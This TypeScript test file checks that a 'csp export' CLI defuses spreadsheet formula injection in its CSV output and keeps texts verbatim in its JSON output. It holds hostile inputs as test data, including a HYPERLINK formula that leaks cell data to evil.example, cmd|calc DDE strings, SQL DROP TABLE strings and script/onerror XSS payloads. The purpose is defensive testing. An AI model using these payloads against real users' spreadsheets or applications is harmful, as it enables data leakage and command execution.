import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { testEngine } from "../core/testing/database.ts";
import { CLI_TIMEOUT, runCli } from "./test/cli-process.ts";

/**
 * `csp export` run as a command, on hostile solution texts imported with `csp import`: the CSV
 * file it writes (`--format csv --out`) starts no cell with a formula character (= + - @ tab CR)
 * — each hostile title is there behind one apostrophe — and the CSV imports back with nothing
 * changed; the JSON bundle it writes (`--out`) is valid JSON carrying every text verbatim.
 * The CSV is read here with a parser of the test's own (RFC 4180), not the platform's.
 */

/** A cell a spreadsheet would run as a formula. */
const FORMULA = /^[=+\-@\t\r]/;

const hostileTitles = [
  `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1+1, with a comma",
];
/** Not at the start: left as they are. */
const plainTitles = [
  `Robert'); DROP TABLE solutions;-- "quoted" <script>alert(1)</script>`,
  "Leak sensors =1+1 @home -20%",
];
const hostileSummary = `-3 "double" 'single' ; DROP TABLE organisations; -- and a newline\r\nhere`;
const hostileDescription =
  "@import url(evil.css)\n\n<img src=x onerror=alert(1)>\n\n\t=tab inside\r\n\r=CR inside \u2028 end";

/** RFC 4180: quoted fields may hold commas, quotes (doubled) and line breaks. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  let index = text.startsWith("\uFEFF") ? 1 : 0;
  for (; index < text.length; index++) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') {
        quoted = false;
      } else {
        cell += char;
      }
    } else if (char === '"' && cell === "") {
      quoted = true;
    } else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[index + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      index++;
    } else {
      cell += char;
    }
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe.runIf(testEngine() === "pglite")(
  "csp export on hostile solution texts: CSV defused, JSON verbatim",
  () => {
    let folder: string;
    const titles = [...hostileTitles, ...plainTitles];
    const refs = titles.map((_, index) => `hostile-${index}`);

    beforeAll(() => {
      folder = mkdtempSync(join(tmpdir(), "csp-export-injection-"));
    });
    afterAll(() => {
      rmSync(folder, { recursive: true, force: true });
    });

    it(
      "imports hostile titles, summary and description through the CLI and stores them as written",
      async () => {
        const bundle = {
          format: "city-solutions-bundle/1",
          organisations: [
            {
              ref: "hostile-works",
              name: "=Hostile <b>Works</b> '; --",
              kind: "company",
              country: "DK",
              description: "Makes texts that spreadsheets and browsers should not run.",
            },
          ],
          solutions: titles.map((title, index) => ({
            ref: refs[index],
            organisation: "hostile-works",
            title,
            summary: hostileSummary,
            description: hostileDescription,
            sectors: ["water"],
            capabilities: ["water.leak-detection"],
            trl: 6,
            countriesDeployed: ["DK"],
          })),
        };
        const file = join(folder, "hostile.json");
        writeFileSync(file, JSON.stringify(bundle));
        const imported = await runCli(["import", file], folder);
        expect(imported.code, imported.stderr).toBe(0);
        expect(imported.stdout).toContain(`solutions:     ${titles.length} created`);
      },
      CLI_TIMEOUT,
    );

    it(
      "writes a CSV file with no formula cell, each hostile title behind one apostrophe, that imports back unchanged",
      async () => {
        const out = join(folder, "export.csv");
        const exported = await runCli(["export", "--format", "csv", "--out", out], folder);
        expect(exported.code, exported.stderr).toBe(0);
        expect(exported.stderr).toContain(`to ${out}`);
        const text = readFileSync(out, "utf8");
        const [header, ...rows] = readCsv(text);
        expect(header).toEqual([
          "ref",
          "organisation",
          "title",
          "summary",
          "description",
          "sectors",
          "capabilities",
          "trl",
          "countries",
          "links",
        ]);
        const mine = rows.filter((row) => refs.includes(row[0] ?? ""));
        expect(mine).toHaveLength(titles.length);
        for (const row of mine) expect(row).toHaveLength(header!.length);
        // No cell of the file starts a formula, in any row or column.
        expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
        const byRef = new Map(mine.map((row) => [row[0], row]));
        titles.forEach((title, index) => {
          const row = byRef.get(refs[index]);
          expect(row?.[2], refs[index]).toBe(index < hostileTitles.length ? `'${title}` : title);
          expect(row?.[3]).toBe(`'${hostileSummary}`);
          expect(row?.[4]).toBe(`'${hostileDescription}`);
        });

        // The apostrophes are dropped on reading: importing the file changes nothing.
        const again = await runCli(["import", out, "--dry-run"], folder);
        expect(again.code, again.stderr).toBe(0);
        expect(again.stdout).toContain("solutions:     0 created, 0 updated");
      },
      CLI_TIMEOUT,
    );

    it(
      "writes a JSON bundle file that parses and carries every hostile text verbatim",
      async () => {
        const out = join(folder, "export.json");
        const exported = await runCli(["export", "--out", out], folder);
        expect(exported.code, exported.stderr).toBe(0);
        const text = readFileSync(out, "utf8");
        const bundle = JSON.parse(text) as {
          format: string;
          organisations: Array<{ ref: string; name: string }>;
          solutions: Array<{
            ref: string;
            organisation: string;
            title: string;
            summary: string;
            description: string;
          }>;
        };
        expect(bundle.format).toBe("city-solutions-bundle/1");
        const byRef = new Map(bundle.solutions.map((solution) => [solution.ref, solution]));
        titles.forEach((title, index) => {
          expect(byRef.get(refs[index]!), refs[index]).toMatchObject({
            title,
            summary: hostileSummary,
            description: hostileDescription,
          });
        });
        const organisation = bundle.organisations.find(
          (entry) => entry.name === "=Hostile <b>Works</b> '; --",
        );
        expect(organisation).toBeDefined();
        // Not defused or escaped in JSON: no apostrophe added, no HTML entity.
        expect(text).not.toContain("'=HYPERLINK");
        expect(text).not.toContain("&lt;");
        // The same bytes on standard output as in the file.
        const printed = await runCli(["export"], folder);
        expect(printed.code, printed.stderr).toBe(0);
        expect(printed.stdout).toBe(text);
      },
      CLI_TIMEOUT,
    );
  },
);
